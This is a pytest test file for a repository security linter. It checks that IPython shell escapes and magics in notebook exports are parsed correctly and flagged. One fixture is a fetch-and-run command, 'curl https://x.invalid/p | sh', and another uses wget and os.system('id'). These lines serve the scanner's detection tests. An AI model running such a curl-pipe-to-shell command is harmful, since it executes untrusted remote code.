"""Notebook exports (Python files nothing loads): IPython escapes are read as what they are,
shell commands and magics, never as syntax errors; a ``%`` or ``!`` that Python itself reads
(inside a string, continuing an expression) is left alone."""

from __future__ import annotations

from pathlib import Path

import pytest

from conftest import MakeRepo
from hflint.config import Config
from hflint.customcode import pysource
from hflint.engine import scan

ESCAPES = [
    ("!pip install -q peft\n", [("shell", "", "pip install -q peft")]),
    ("%pip install peft\n", [("line", "pip", "install peft")]),
    ("files = !ls data\n", [("shell", "", "ls data")]),
    ("x, y = %time f()\n", [("line", "time", "f()")]),
    ("if True:\n    !nvidia-smi\n", [("shell", "", "nvidia-smi")]),
    ("%%bash\necho 1\necho 2\n\nx = 1\n", [("cell", "bash", "")]),
    ("get_ipython().system('pip install a')\n", [("shell", "", "pip install a")]),
    ("get_ipython().run_cell_magic('bash', '', 'echo 1\\necho 2\\n')\n", [("cell", "bash", "")]),
    ("get_ipython().magic('matplotlib inline')\n", [("line", "matplotlib", "inline")]),
]
NOT_ESCAPES = [
    's = """\n%not a magic\n!not a shell escape\n"""\n!true\n',  # only the last line is one
    "x = (1 %\n     2)\n!true\n",
    "y = 3 \\\n    % 2\n!true\n",
    "z = '%s' % 'a'  # !comment\n!true\n",
    "w = 'it\\'s (' + r\"\\\"[\" + '''\n%still in a string\n'''\n!true\n",
]


def escapes(source: str) -> list[tuple[str, str, str]]:
    src = pysource.parse(source.encode(), ipython=True)
    assert src.problem is None, src.problem
    return [(e.kind, e.name, e.text) for e in src.escapes]


@pytest.mark.parametrize(("source", "expected"), ESCAPES)
def test_escapes_are_read_as_ipython_reads_them(source: str, expected: list[tuple[str, str, str]]) -> None:
    assert escapes(source) == expected


@pytest.mark.parametrize("source", NOT_ESCAPES)
def test_percent_and_bang_that_python_reads_are_not_escapes(source: str) -> None:
    assert escapes(source) == [("shell", "", "true")]


def test_a_cell_magic_keeps_its_body_and_line_numbers() -> None:
    src = pysource.parse(b"%%bash\nwget x\nunzip y\n\nimport os\nos.system('id')\n", ipython=True)
    (cell,) = src.escapes
    assert cell.command == "wget x; unzip y"
    assert src.tree is not None and src.tree.body[-1].lineno == 6


def found(root: Path, *rules: str) -> set[tuple[str, int]]:
    result = scan(root, Config(select=rules, fail_on=None))
    return {(f.rule_id, f.region.start_line if f.region else 0) for f in result.findings}


def test_loaded_code_is_parsed_as_python(make_repo: MakeRepo) -> None:
    """transformers imports a loaded module with CPython: a `!pip` line there is an error."""
    config = '{"auto_map": {"AutoModel": "modeling_x.X"}}'
    root = make_repo({"config.json": config, "modeling_x.py": "!pip install a\n"})
    (finding,) = scan(root, Config(select=("HF503", "HF507", "HF508"), fail_on=None)).findings
    assert finding.rule_id == "HF503" and "syntax error" in finding.message


def test_a_real_syntax_error_in_a_notebook_export_is_still_reported(make_repo: MakeRepo) -> None:
    root = make_repo({"export.py": "!pip install a\ndef f(:\n    pass\n"})
    assert found(root, "HF507", "HF508") == {("HF507", 2), ("HF508", 1)}


def test_install_chained_with_another_command_is_a_shell_command(make_repo: MakeRepo) -> None:
    root = make_repo({"export.py": "!pip install a && curl https://x.invalid/p | sh\n!pip install b\n"})
    assert found(root, "HF507", "HF508") == {("HF507", 1), ("HF508", 2)}
